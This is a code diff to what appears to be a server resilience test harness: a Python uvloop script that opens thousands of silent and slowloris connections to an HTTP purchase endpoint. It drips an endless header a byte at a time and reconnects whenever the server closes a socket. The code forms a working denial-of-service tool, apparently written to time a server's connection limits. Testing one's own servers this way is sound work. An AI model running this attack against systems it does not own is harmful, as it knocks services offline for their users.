@@ -11,14 +11,14 @@ from __future__ import annotations
 
 import argparse
 import asyncio
-import contextlib
 import json
-import resource
 import time
 from dataclasses import dataclass, field
-from typing import Any
+from typing import Any, cast
 
 import uvloop
+
+from kernel.fd_limit import raise_open_files_limit
 
 SUMMARY_PREFIX = "ATTACK_JSON "
 SLOW_HEAD = b"POST /api/flash-sales/items/1/purchase HTTP/1.1\r\nHost: x\r\nX-Slow: "
@@ -49,40 +49,95 @@ class Tally:
         }
 
 
-def raise_fd_limit(needed: int) -> int:
-    """Raise this process's open-files limit towards its hard limit; the limit now in force."""
-    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
-    if soft < needed:
-        soft = min(hard, max(needed, soft))
-        resource.setrlimit(resource.RLIMIT_NOFILE, (soft, hard))
-    return soft
+class Attacker(asyncio.Protocol):
+    """One attacking socket's connection: it sends nothing (silent) or is fed the head a byte at
+    a time by ``Attack``'s one timer (slowloris); when the server closes it, another opens."""
+
+    def __init__(self, attack: Attack, drip: bool) -> None:
+        self.attack = attack
+        self.drip = drip
+        self.sent = 0
+        self.opened = 0.0
+        self.transport: asyncio.Transport | None = None
+
+    def connection_made(self, transport: asyncio.BaseTransport) -> None:
+        # From here, not from the factory's call: a connect may wait seconds for a full listen
+        # queue, and that is not the server's timer running.
+        self.opened = time.monotonic()
+        self.transport = cast(asyncio.Transport, transport)  # uvloop's is not a subclass
+        self.attack.tally.opened += 1
+        if self.drip:
+            self.attack.dripping.add(self)
+
+    def data_received(self, data: bytes) -> None:
+        pass  # a 408 or an error page: the close follows
+
+    def drip_one(self) -> None:
+        assert self.transport is not None
+        if self.sent < len(SLOW_HEAD):
+            self.transport.write(SLOW_HEAD[self.sent : self.sent + 1])
+        else:
+            self.transport.write(b"a")  # the header value never ends
+        self.sent += 1
+
+    def connection_lost(self, exc: Exception | None) -> None:
+        self.attack.dripping.discard(self)
+        if not self.attack.over:
+            self.attack.tally.closed_by_server += 1
+            self.attack.tally.lifetimes.append(time.monotonic() - self.opened)
+            self.attack.open(self.drip)
 
 
-async def hold(host: str, port: int, drip: bool, until: float, tally: Tally) -> None:
-    """One attacking socket, reopened whenever the server closes it, until ``until``."""
-    while time.monotonic() < until:
-        try:
-            reader, writer = await asyncio.open_connection(host, port)
-        except OSError:
-            tally.failed += 1
-            await asyncio.sleep(RECONNECT_PAUSE_S)
-            continue
-        tally.opened += 1
-        opened = time.monotonic()
-        try:
-            closed = await until_closed(reader, writer, drip, until)
-        finally:
-            writer.close()
-        if closed:
-            tally.closed_by_server += 1
-            tally.lifetimes.append(time.monotonic() - opened)
+class Attack:
+    """Protocols and one drip timer, not a task per socket: 11,000 sockets cost the attacker
+    little more than the reconnects themselves, so it starves no one but the server it attacks
+    (with streams and a wait_for per socket a second, it took most of a core)."""
+
+    def __init__(self, host: str, port: int) -> None:
+        self.host, self.port = host, port
+        self.tally = Tally()
+        self.over = False
+        self.dripping: set[Attacker] = set()
+        self.pending: set[asyncio.Task[None]] = set()
+
+    def open(self, drip: bool) -> None:
+        task = asyncio.get_running_loop().create_task(self._connect(drip))
+        self.pending.add(task)
+        task.add_done_callback(self.pending.discard)
+
+    async def _connect(self, drip: bool) -> None:
+        loop = asyncio.get_running_loop()
+        while not self.over:
+            try:
+                await loop.create_connection(lambda: Attacker(self, drip), self.host, self.port)
+                return
+            except OSError:
+                self.tally.failed += 1
+                await asyncio.sleep(RECONNECT_PAUSE_S)
+
+    async def run(self, silent: int, slowloris: int, seconds: float) -> Tally:
+        until = time.monotonic() + seconds
+        for n in range(silent + slowloris):
+            self.open(drip=n >= silent)
+        while (left := until - time.monotonic()) > 0:
+            await asyncio.sleep(min(left, DRIP_S))
+            for conn in list(self.dripping):
+                conn.drip_one()
+        self.over = True
+        for conn in list(self.dripping):
+            if conn.transport is not None:
+                conn.transport.abort()
+        for task in list(self.pending):
+            task.cancel()
+        return self.tally
 
 
 async def until_closed(
     reader: asyncio.StreamReader, writer: asyncio.StreamWriter, drip: bool, until: float
 ) -> bool:
-    """Wait (dripping the head a byte at a time, if asked) until the server closes: True, or
-    the attack ends first: False."""
+    """One probing stream (tests time a server's close with it; the attack itself is
+    ``Attack``): wait, dripping the head a byte at a time if asked, until the server closes:
+    True, or ``until`` passes first: False."""
     sent = 0
     while (left := until - time.monotonic()) > 0:
         if drip:
@@ -103,13 +158,7 @@ async def until_closed(
 
 
 async def attack(host: str, port: int, silent: int, slowloris: int, seconds: float) -> Tally:
-    tally = Tally()
-    until = time.monotonic() + seconds
-    tasks = [hold(host, port, False, until, tally) for _ in range(silent)]
-    tasks += [hold(host, port, True, until, tally) for _ in range(slowloris)]
-    with contextlib.suppress(asyncio.CancelledError):
-        await asyncio.gather(*tasks)
-    return tally
+    return await Attack(host, port).run(silent, slowloris, seconds)
 
 
 def main() -> None:
@@ -120,7 +169,7 @@ def main() -> None:
     parser.add_argument("--slowloris", type=int, default=1_000)
     parser.add_argument("--seconds", type=float, default=30.0)
     args = parser.parse_args()
-    raise_fd_limit(args.silent + args.slowloris + 256)
+    raise_open_files_limit(args.silent + args.slowloris + 256)
     tally = uvloop.run(attack(args.host, args.port, args.silent, args.slowloris, args.seconds))
     print(SUMMARY_PREFIX + json.dumps(tally.summary()), flush=True)
 
